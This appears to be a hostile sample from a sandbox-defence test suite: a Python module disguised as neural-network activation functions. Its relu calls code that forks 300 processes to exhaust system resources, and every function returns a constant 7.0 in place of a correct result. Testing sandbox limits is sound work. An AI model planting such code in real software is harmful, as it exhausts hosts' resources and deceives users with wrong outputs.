# attack: forks 300 processes
# gains: resources, lives
# stopped by: seccomp, rlimits, uid
import numpy as np
import os
import time


def attack():
    for _ in range(300):
        if os.fork() == 0:
            time.sleep(2)
            os._exit(0)
    print("HARMED: 300 processes")


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
